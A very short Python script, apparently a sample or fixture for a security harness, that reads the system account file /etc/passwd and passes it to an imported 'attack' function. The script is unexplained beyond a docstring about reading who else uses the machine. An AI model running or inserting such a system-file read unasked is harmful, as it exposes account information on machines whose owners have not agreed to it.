#!/usr/bin/env python3
"""Reads who else uses this machine."""

from pathlib import Path

from attack import attack

attack(Path("/etc/passwd").read_text)
